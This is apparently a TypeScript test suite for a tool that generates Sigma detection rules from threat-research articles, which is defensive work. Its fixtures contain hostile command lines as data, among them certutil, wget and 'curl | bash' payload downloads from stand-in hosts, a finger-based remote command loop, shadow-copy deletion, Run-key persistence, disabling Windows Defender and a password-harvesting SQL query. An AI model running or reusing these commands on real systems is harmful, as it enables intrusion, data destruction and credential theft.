import { selfTestRule } from '../evaluate/self-test';
import { distinctiveTokens, generateBuiltinRules, withoutHive, type BuiltinSigmaInput } from './builtin-sigma-agent';
import { stableRuleId } from './rule-draft';

function must<T>(value: T | undefined | null): T {
  if (value === undefined || value === null) throw new Error('expected a value');
  return value;
}

const article = { title: 'Tracking the Loader campaign', url: 'https://research.example.org/loader', date: '2026-11-21' };
const evidence = { start: 0, end: 10, text: 'x' };
const item = { evidence, confidence: 0.9 };

const input: BuiltinSigmaInput = {
  article,
  platform: 'windows',
  cmdlines: [
    { ...item, value: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', executable: 'powershell.exe' },
    { ...item, value: 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', executable: 'certutil.exe' },
    { ...item, value: 'whoami', executable: 'whoami' },
  ],
  processPairs: [{ ...item, value: 'winword.exe -> powershell.exe', parent: 'WINWORD.EXE', child: 'powershell.exe' }],
  registryKeys: [
    {
      ...item,
      value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      hive: 'HKCU',
      path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      value_name: 'Updater',
    },
  ],
  services: [{ ...item, value: 'WinSvcHelper', binary_path: 'C:\\ProgramData\\svc\\helper.exe' }],
  scheduledTasks: [{ ...item, value: 'OneDriveSync' }],
  network: [
    { ...item, value: '203.0.113.7', kind: 'ipv4' },
    { ...item, value: 'update-cdn.example.net', kind: 'domain' },
    { ...item, value: 'https://files.example.com/payload.bin', kind: 'url' },
  ],
};

type Rule = {
  title: string;
  id: string;
  status: string;
  description: string;
  references: string[];
  author: string;
  date: string;
  tags?: string[];
  logsource: Record<string, string>;
  detection: Record<string, unknown>;
  level: string;
  falsepositives: string[];
};

describe('builtin SigmaAgent templates', () => {
  const drafts = generateBuiltinRules(input);
  const rules = drafts.map((draft) => ({ draft, rule: draft.rule as unknown as Rule }));

  it('writes one rule per behaviour with the metadata every rule carries', () => {
    expect(drafts.map((draft) => draft.telemetryClass)).toEqual([
      'process_creation',
      'process_creation',
      'process_creation',
      'registry_set',
      'service_creation',
      'scheduled_task_creation',
      // The program certutil wrote into the Public folder, keyed on its kind (its name was made up for the run).
      'file_event',
      // certutil reaching the network.
      'network_connection',
      'network_connection',
    ]);
    for (const { rule } of rules) {
      expect(rule.status).toBe('experimental');
      expect(rule.references).toEqual([article.url]);
      expect(rule.description).toContain(article.title);
      expect(rule.description).toMatch(/^Detects /);
      expect(rule.date).toBe('2026-11-21');
      expect(rule.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(rule.falsepositives.length).toBeGreaterThan(0);
      expect(typeof rule.detection['condition']).toBe('string');
    }
  });

  it('selects each program on its behaviour switches and stable arguments, never the run-specific ones', () => {
    const [certutil, powershell] = rules.map(({ rule }) => rule);
    expect(must(powershell).title).toBe('PowerShell Encoded Or Base64-Decoded Command');
    // -nop -w hidden -enc are how many scripts run: the encoded command is what makes the selection this intrusion's.
    expect(must(powershell).detection).toEqual({
      // The program as its file names itself too: a renamed copy keeps its OriginalFileName.
      selection_img: [{ 'Image|endswith': '\\powershell.exe' }, { OriginalFileName: 'PowerShell.EXE' }],
      // Word starting PowerShell is the lineage rule's finding: the command is keyed however it was started.
      selection_cli: { 'CommandLine|contains|all': ['-nop', '-w hidden', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'] },
      condition: 'all of selection_*',
    });
    expect(must(certutil).title).toBe('File Download Via Certutil.EXE');
    // The host, the folder and the throwaway file name (a.exe) belong to this intrusion; the technique is the switch.
    expect(must(certutil).detection).toEqual({
      selection_img: [{ 'Image|endswith': '\\certutil.exe' }, { OriginalFileName: 'CertUtil.exe' }],
      selection_cli: { 'CommandLine|contains|windash': ['-urlcache', '-verifyctl'] },
      condition: 'all of selection_*',
    });
    expect(must(certutil).tags).toEqual(['attack.command-and-control', 'attack.t1105']);
    expect(must(certutil).level).toBe('high');
    expect(rules.some(({ rule }) => JSON.stringify(rule.detection).includes('whoami'))).toBe(false);
    for (const value of must(rules[1]).draft.detectionValues.filter((v) => !v.startsWith('\\'))) {
      expect(must(input.cmdlines).some((c) => c.value.includes(value))).toBe(true);
    }
  });

  it('maps lineage, registry, service, task and network observables to their classes', () => {
    const lineage = rules.find(({ rule }) => rule.title === 'Powershell.EXE Started By WINWORD.EXE');
    expect(must(lineage).rule.detection).toEqual({
      // Either PowerShell edition: the parent starting it is the finding.
      selection_img: [{ 'Image|endswith': ['\\powershell.exe', '\\pwsh.exe'] }, { OriginalFileName: ['PowerShell.EXE', 'pwsh.dll'] }],
      selection_parent: { 'ParentImage|endswith': '\\WINWORD.EXE' },
      condition: 'all of selection_*',
    });
    const byClass = Object.fromEntries(rules.map(({ draft, rule }) => [draft.telemetryClass, rule]));
    expect(must(byClass['registry_set']).detection['selection']).toEqual({
      'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'TargetObject|endswith': '\\Updater',
    });
    expect(must(byClass['registry_set']).tags).toEqual(['attack.persistence', 'attack.t1547.001']);
    expect(must(byClass['registry_set']).title).toBe('Run Key Persistence Via Registry Value Updater');
    expect(must(byClass['service_creation']).detection['selection']).toEqual({
      Provider_Name: 'Service Control Manager',
      EventID: 7045,
      'ImagePath|contains': 'C:\\ProgramData\\svc\\helper.exe',
    });
    expect(must(byClass['scheduled_task_creation']).detection['selection']).toEqual({
      EventID: 4698,
      'TaskName|endswith': '\\OneDriveSync',
    });
    // The article's addresses and host names are one sweep: one rule, either selection.
    expect(must(byClass['network_connection']).detection).toEqual({
      selection_ip: { DestinationIp: ['203.0.113.7'] },
      selection_domain: { DestinationHostname: ['update-cdn.example.net', 'files.example.com'] },
      condition: '1 of selection_*',
    });
    expect(must(byClass['network_connection']).title).toBe('Network Connection To Infrastructure Reported In Tracking the Loader campaign');
  });

  it('cuts a registry path around its placeholders instead of copying them into a value', () => {
    const keys = (value: string, path: string) => [{ ...item, value, hive: 'HKU' as const, path, value_name: 'Updater' }];
    const selectionOf = (registryKeys: BuiltinSigmaInput['registryKeys']) => {
      const drafted = generateBuiltinRules({ ...input, registryKeys }).find((draft) => draft.telemetryClass === 'registry_set');
      return (must(drafted).rule as unknown as Rule).detection['selection'];
    };
    expect(
      selectionOf(
        keys(
          'HKEY_USERS\\<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          '<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        ),
      ),
    ).toEqual({
      'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'TargetObject|endswith': '\\Updater',
    });
    expect(selectionOf(keys('HKU\\<SID>\\Software\\Vendor\\{REDACTED}\\Config', '<SID>\\Software\\Vendor\\{REDACTED}\\Config'))).toEqual({
      'TargetObject|contains|all': ['\\Software\\Vendor', '\\Config'],
      'TargetObject|endswith': '\\Updater',
    });
    // A real class id is part of the key, not a placeholder.
    const clsid = 'Software\\Classes\\CLSID\\{0E5AAE11-A475-4C5B-AB00-C66DE400274E}\\InprocServer32';
    expect(selectionOf(keys(`HKCU\\${clsid}`, clsid))).toEqual({
      'TargetObject|contains': `\\${clsid}`,
      'TargetObject|endswith': '\\Updater',
    });
  });

  it('titles a registry rule by what the key is for, else with the value and the key it is set under, or a key with its parent', () => {
    const titleOf = (key: Partial<NonNullable<BuiltinSigmaInput['registryKeys']>[number]>) => {
      const registryKeys = [{ ...item, hive: 'HKLM' as const, ...key }] as BuiltinSigmaInput['registryKeys'];
      return must(generateBuiltinRules({ ...input, cmdlines: [], registryKeys }).find((draft) => draft.telemetryClass === 'registry_set'))
        .rule.title;
    };
    const terminal = 'SYSTEM\\CurrentControlSet\\Control\\Terminal Server';
    expect(titleOf({ value: `HKLM\\${terminal}`, path: terminal, value_name: 'fDenyQuillConnections' })).toBe(
      'Remote Desktop Setting Changed Through The Registry',
    );
    const service = 'SYSTEM\\CurrentControlSet\\Services\\QuillRelay';
    expect(titleOf({ value: `HKLM\\${service}`, path: service, value_name: undefined })).toBe(
      'Service QuillRelay Configuration Changed Through The Registry',
    );
    const own = 'SOFTWARE\\Quill\\Agent';
    expect(titleOf({ value: `HKLM\\${own}`, path: own, value_name: 'RelayMode' })).toBe('Registry Value RelayMode Set Under Agent');
    expect(titleOf({ value: `HKLM\\${own}\\RelayMode`, path: `${own}\\RelayMode`, value_name: 'RelayMode' })).toBe(
      'Registry Value RelayMode Set Under Agent',
    );
    expect(titleOf({ value: `HKLM\\${own}`, path: own, value_name: undefined })).toBe('Registry Key Agent Set Under Quill');
  });

  it("leaves the genuine program out of a Run value named like Windows' own, unless the intruder's data is known", () => {
    const runValue = {
      ...item,
      value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup',
      hive: 'HKCU' as const,
      path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup',
    };
    const detectionOf = (cmdlines: BuiltinSigmaInput['cmdlines']) =>
      must(generateBuiltinRules({ ...input, cmdlines, registryKeys: [runValue] }).find((draft) => draft.telemetryClass === 'registry_set'))
        .rule.detection;
    expect(detectionOf([])).toEqual({
      selection: { 'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup' },
      filter_genuine: { 'Details|contains': '\\OneDriveSetup.exe' },
      condition: 'selection and not filter_genuine',
    });
    const written = detectionOf([
      {
        ...item,
        value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSetup /d "C:\\Users\\Public\\quill.exe" /f',
        executable: 'reg',
      },
    ]);
    expect(written['condition']).toBe('selection');
    expect(written['selection']).toMatchObject({ 'Details|contains': 'C:\\Users\\Public\\quill.exe' });
  });

  it('skips Windows-only classes for a Linux article and uses the linux product', () => {
    const linux = generateBuiltinRules({
      ...input,
      platform: 'linux',
      processPairs: [],
      cmdlines: [{ ...item, value: 'cd /tmp && wget -q http://198.51.100.4/bins/mirai.x86 -O /tmp/.sysd/dbus-helper', executable: 'cd' }],
    });
    const classes = linux.map((draft) => draft.telemetryClass);
    expect(classes).not.toContain('registry_set');
    expect(classes).not.toContain('service_creation');
    const cmd = must(linux[0]).rule as unknown as Rule;
    expect(cmd.logsource.product).toBe('linux');
    // The program that ran is wget, not the shell built-in the line starts with.
    // A Linux process has no version resource: the program is its Image alone. The scheme is `http`, and wget's
    // output switch is how the download is written (behaviour-values.ts).
    expect(cmd.detection['selection']).toEqual({
      'Image|endswith': '/wget',
      'CommandLine|contains|all': ['/bins/mirai.x86', '/tmp/.sysd/dbus-helper', '-O', 'http'],
    });
    expect(cmd.title).toBe('Wget Download From Remote Host');
  });

  it('runs the bare lines of an article with no platform where its marked lines agree they ran, but never a Windows-only program', () => {
    const unnamed = (lines: string[]) =>
      generateBuiltinRules({
        ...input,
        platform: 'unknown',
        processPairs: [],
        registryKeys: [],
        services: [],
        scheduledTasks: [],
        network: [],
        cmdlines: lines.map((value) => ({ ...item, value, executable: must(value.split(' ')[0]) })),
      }).map((draft) => draft.rule as unknown as Rule);
    const container = unnamed([
      'wget -q https://downloads.example.org/kit/kit-linux.tar.gz',
      'chmod +x /tmp/kit/updater',
      'kitd --pool pool.example.net:3333 --user 4AbCdEf --donate-level 0',
    ]);
    const bare = container.find((rule) => JSON.stringify(rule.detection).includes('--donate-level'));
    expect(must(bare).logsource.product).toBe('linux');

    const mixed = unnamed([
      'net user backupsvc Winter2026! /add',
      'curl -s https://downloads.example.org/i.sh | bash',
      'wget -q -O /tmp/.x https://downloads.example.org/x',
    ]);
    const net = mixed.find((rule) => JSON.stringify(rule.detection).includes('net.exe'));
    expect(must(net).logsource.product).toBe('windows');
  });

  it('resolves wrappers to the program that ran, keeps one selection per distinct command, and leaves out what cannot stand alone', () => {
    const wrapped = generateBuiltinRules({
      article,
      platform: 'windows',
      cmdlines: [
        { ...item, value: 'cmd /c start /b rundll32.exe C:\\ProgramData\\Intel\\update.dll,DllRegisterServer', executable: 'cmd' },
        { ...item, value: 'rundll32.exe C:\\ProgramData\\Intel\\update.dll,DllRegisterServer', executable: 'rundll32.exe' },
        { ...item, value: 'for /f "tokens=*" %%a in (\'finger gate@203.0.113.9\') do call %%a', executable: 'for' },
        { ...item, value: 'killall Terminal 2>/dev/null', executable: 'killall' },
      ],
    });
    const loaded = wrapped.map((draft) => draft.rule as unknown as Rule);
    // cmd.exe runs the command in `for /f … in ('…')` first: finger fetching the next commands is the finding,
    // and the loop running what it returns is one too.
    expect(loaded.map((rule) => rule.title)).toEqual([
      'Remote Commands Retrieved Via Finger.EXE',
      'Remote Text Run As Commands Through A Cmd For Loop',
      'Rundll32.EXE Execution Of DLL From Unusual Location',
      'Finger Network Connection',
      'Payload Staged In A User-Writable Folder',
    ]);
    expect(loaded[2]?.detection).toEqual({
      selection_img: [{ 'Image|endswith': '\\rundll32.exe' }, { OriginalFileName: 'RUNDLL32.EXE' }],
      selection_cli: { 'CommandLine|contains': 'C:\\ProgramData\\Intel\\update.dll,DllRegisterServer' },
      condition: 'all of selection_*',
    });
  });

  it('rates a behaviour switch as specific and tags a Run-key write as persistence', () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      cmdlines: [
        { ...item, value: 'vssadmin delete shadows /all /quiet', executable: 'vssadmin' },
        {
          ...item,
          value:
            'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d "rundll32.exe C:\\ProgramData\\s.dll,Start" /f',
          executable: 'reg',
        },
      ],
    });
    const [vssadmin, reg] = drafts.map((draft) => draft.rule as unknown as Rule);
    expect(vssadmin).toMatchObject({
      title: 'Shadow Copies Deleted Via Vssadmin.EXE',
      level: 'high',
      tags: ['attack.impact', 'attack.t1490'],
    });
    expect(reg).toMatchObject({ title: 'Run Key Persistence Via Reg.EXE', level: 'high' });
    expect(reg?.tags).toEqual(['attack.defense-impairment', 'attack.persistence', 'attack.t1112', 'attack.t1547.001']);
  });

  it('tags a Run key as persistence only where the command writes it, not where it queries or deletes it', () => {
    const tagsOf = (value: string) =>
      generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value, executable: 'reg' }] }).map(
        (draft) => (draft.rule as unknown as Rule).tags,
      );
    expect(tagsOf('reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /s').flat()).not.toContain('attack.t1547.001');
    expect(tagsOf('reg delete HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v SecurityHealth /f').flat()).not.toContain(
      'attack.t1547.001',
    );
    expect(tagsOf('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d C:\\ProgramData\\s.exe /f').flat()).toContain(
      'attack.t1547.001',
    );
  });

  it('titles each behaviour of a program by what it does: a Run-key write and a service change are two rules', () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      cmdlines: [
        {
          ...item,
          value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d C:\\ProgramData\\sync.exe /f',
          executable: 'reg',
        },
        { ...item, value: 'reg add HKLM\\System\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f', executable: 'reg' },
      ],
    });
    expect(drafts.filter((draft) => draft.telemetryClass === 'process_creation').map((draft) => draft.rule.title)).toEqual([
      'Run Key Persistence Via Reg.EXE',
      'Services Disabled Through Their Start Value Via Reg.EXE',
    ]);
  });

  it('keeps resolvers, CDNs and code hosts out of IOC rules', () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      network: [
        { ...item, value: '8.8.8.8', kind: 'ipv4' },
        { ...item, value: 'https://raw.githubusercontent.com/x/y/main/a.ps1', kind: 'url' },
        { ...item, value: 'c2.badhost.example', kind: 'domain' },
      ],
    });
    expect(drafts.map((draft) => draft.telemetryClass)).toEqual(['dns_query']);
    expect((must(drafts[0]).rule as unknown as Rule).detection['selection']).toEqual({ QueryName: ['c2.badhost.example'] });
  });

  it('makes one indicator rule of the addresses and host names an article reports', () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      network: [
        { ...item, value: '198.51.100.23', kind: 'ipv4' },
        { ...item, value: 'login-verify.example', kind: 'domain' },
      ],
    });
    expect(drafts).toHaveLength(1);
    expect(must(drafts[0]).rule.detection).toEqual({
      selection_ip: { DestinationIp: ['198.51.100.23'] },
      selection_domain: { DestinationHostname: ['login-verify.example'] },
      condition: '1 of selection_*',
    });
  });

  it('is deterministic: the same input gives the same ids and YAML', () => {
    expect(generateBuiltinRules(input).map((draft) => draft.rule)).toEqual(drafts.map((draft) => draft.rule));
    expect(stableRuleId('a')).not.toBe(stableRuleId('b'));
  });

  it('splits more than five selections into several rules', () => {
    const many = Array.from({ length: 7 }, (_, index) => ({
      ...item,
      value: `rundll32.exe C:\\Temp\\mod${index}.dll,Start`,
      executable: 'rundll32.exe',
    }));
    // The process rules (the DLLs' writes into C:\\Temp have their file rule).
    const split = generateBuiltinRules({ article, platform: 'windows', cmdlines: many }).filter(
      (draft) => draft.telemetryClass === 'process_creation',
    );
    expect(split).toHaveLength(2);
    // Each part is titled by what sets it apart, never by a number.
    expect(must(split[0]).rule.title).toBe('Rundll32.EXE Execution Of DLL From Unusual Location (mod0.dll, mod1.dll And 3 More)');
    expect(must(split[1]).rule.title).toBe('Rundll32.EXE Execution Of DLL From Unusual Location (mod5.dll And mod6.dll)');
  });

  it('picks path, URL and encoded arguments over switches', () => {
    expect(distinctiveTokens('schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon')).toEqual([
      'C:\\Users\\Public\\u.exe',
    ]);
    expect(distinctiveTokens('net user')).toEqual([]);
    expect(distinctiveTokens('powershell -EncodedCommand')).toEqual(['-EncodedCommand']);
  });

  it('reads arguments as the shell does: a redirection target counts, a command substitution gives its own words', () => {
    expect(distinctiveTokens('base64 -d > /run/systemd/system/example.service')).toEqual(['/run/systemd/system/example.service']);
    expect(distinctiveTokens('curl -s $(echo aHR0cHM6Ly9leGFtcGxlLm9yZy94Cg== | base64 -d)')).toEqual(['aHR0cHM6Ly9leGFtcGxlLm9yZy94Cg==']);
    expect(distinctiveTokens('type "C:\\Users\\Public\\a b.txt"|more')).toEqual(['C:\\Users\\Public\\a b.txt']);
  });

  it("makes no rule of unpacking an archive, and keeps archiving a user's files into a hidden folder", () => {
    const titlesOf = (value: string) =>
      generateBuiltinRules({ article, platform: 'linux', cmdlines: [{ ...item, value, executable: value.split(' ')[0] ?? '' }] }).map(
        (draft) => draft.rule.title,
      );
    expect(titlesOf('tar -zxf quill-agent-linux-amd64.tar.gz')).toEqual([]);
    expect(titlesOf('unzip -o /tmp/quill-agent.zip -d /opt/quill')).toEqual([]);
    expect(titlesOf('gzip -d /tmp/quill-agent.gz')).toEqual([]);
    expect(titlesOf('tar czf /tmp/.q/home.tgz /home/alice/Documents')).toEqual(['Archive Creation Via Tar']);
  });

  it('tags a share mapped with net use for what it is, not as account discovery', () => {
    const tagsOf = (value: string) =>
      generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value, executable: 'net' }] }).map(
        (draft) => (draft.rule as unknown as Rule).tags,
      );
    expect(tagsOf('net use \\\\198.51.100.9@8888\\davwwwroot\\')).toEqual([['attack.command-and-control', 'attack.t1105']]);
    expect(tagsOf('net use Z: \\\\files01\\quill$ /user:corp\\svc_quill')).toEqual([['attack.lateral-movement', 'attack.t1021.002']]);
    expect(tagsOf('net group "Quill Admins" /domain').flat()).toContain('attack.discovery');
  });

  it('keys a registry command on the key from after its hive, and on the value it sets or removes', () => {
    // However the hive and control set are spelt, the key is the same one.
    expect(withoutHive('HKLM\\SYSTEM\\ControlSet001\\Services\\QuillGuard')).toBe('\\Services\\QuillGuard');
    expect(withoutHive('HKEY_LOCAL_MACHINE\\SOFTWARE\\Quill\\Agent')).toBe('\\SOFTWARE\\Quill\\Agent');
    expect(withoutHive('HKCR\\*\\shellex\\ContextMenuHandlers\\Quill')).toBe('\\shellex\\ContextMenuHandlers\\Quill');
    expect(withoutHive('C:\\HKLM\\notes.txt')).toBe('C:\\HKLM\\notes.txt');
    const rules = (...values: string[]) =>
      generateBuiltinRules({
        article,
        platform: 'windows',
        cmdlines: values.map((value) => ({ ...item, value, executable: 'reg' })),
      }).filter((draft) => draft.telemetryClass === 'process_creation');
    const [removed] = rules('reg delete "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "QuillTray" /f');
    expect(removed?.rule.detection['selection_cli']).toEqual({
      'CommandLine|contains|all': ['QuillTray', '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
    });
    // The rule fires on the same removal written with the long hive name; removing another entry is not it.
    const fires = (value: string) => selfTestRule(must(removed).rule, [{ type: 'cmdline', value }]).fires;
    expect(fires('reg.exe delete "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v QuillTray /f')).toBe(true);
    expect(fires('reg delete "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v OneDrive /f')).toBe(false);
  });

  it("reads a wrapper's quoted command as namedValues does, as its own words", () => {
    const processRules = (value: string) =>
      generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value, executable: value.split(' ')[0] ?? '' }] })
        .filter((draft) => draft.telemetryClass === 'process_creation')
        .map((draft) => draft.rule.detection);
    // The cmdlet powershell.exe is told to run is a value of its own, apart from the switch after it.
    const wrapped = JSON.stringify(
      processRules('powershell -Command "Invoke-WebRequest -OutFile $env:TEMP\\q.pdf http://198.51.100.4/quill.php"'),
    );
    expect(wrapped).toContain('"Invoke-WebRequest"');
    expect(wrapped).not.toContain('Invoke-WebRequest -OutFile');
    // The program's own spaced path is not an argument; the query a database client is given keys its rule.
    const query = JSON.stringify(
      processRules('"C:\\Program Files\\Quill\\15\\bin\\quillsql.exe" -c "SELECT user_name,password FROM vault_credentials"'),
    );
    expect(query).toContain('SELECT user_name,password FROM vault_credentials');
    expect(query).not.toContain('Files\\\\Quill');
    // An editor's placeholder for what the article left out is on no command line.
    expect(JSON.stringify(processRules('curl -fsSL aHR0cHM6Ly9[remaining base64 text redacted] -o /tmp/q'))).not.toContain('redacted');
  });
});

describe('commands the analyst ran', () => {
  it('makes no rule of what the author ran to decode the sample, and keeps what the intruder ran', () => {
    const intruder = 'rundll32.exe C:\\ProgramData\\Intel\\upd.dll,Start';
    const analyst = 'perl deobfuscate.pl C:\\Cases\\stage2.js';
    const content = [
      'The loader then ran the following:',
      '',
      '```',
      intruder,
      '```',
      '',
      'To decode the sample, we ran our deobfuscator:',
      '',
      '```',
      analyst,
      '```',
      '',
    ].join('\n');
    const cmdline = (value: string) => {
      const start = content.indexOf(value);
      return { evidence: { start, end: start + value.length, text: value }, confidence: 0.9, value, executable: value.split(' ')[0] ?? '' };
    };
    const drafts = generateBuiltinRules({ article, platform: 'windows', content, cmdlines: [cmdline(intruder), cmdline(analyst)] });
    const rendered = JSON.stringify(drafts.map((draft) => draft.rule.detection));
    expect(rendered).toContain('upd.dll');
    expect(rendered).not.toContain('deobfuscate');
    expect(rendered).not.toContain('perl');
  });
});

describe('registry items as the registry holds them', () => {
  it('drops quotes escaped for an outer command from the value name, and a word of the sentence after the path', () => {
    const key = (value: string, path: string, valueName?: string) => ({
      ...item,
      value,
      hive: 'HKLM' as const,
      path,
      ...(valueName ? { value_name: valueName } : {}),
    });
    const exclusions = 'SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths';
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      registryKeys: [
        key(`HKLM\\${exclusions}`, exclusions, '\\"C:\\ProgramData\\QuillCache\\quillhelper.exe\\"'),
        key('HKLM\\SOFTWARE\\Quill\\Relay Value', 'SOFTWARE\\Quill\\Relay Value', 'Mode'),
      ],
    }).filter((draft) => draft.telemetryClass === 'registry_set');
    const values = drafts.flatMap((draft) => draft.detectionValues);
    expect(values).toContain('\\C:\\ProgramData\\QuillCache\\quillhelper.exe');
    expect(values.some((value) => value.includes('"'))).toBe(false);
    expect(values.some((value) => / Value/.test(value))).toBe(false);
    expect(drafts.map((draft) => draft.rule.title)).toContain('Registry Value Mode Set Under Relay');
  });
});
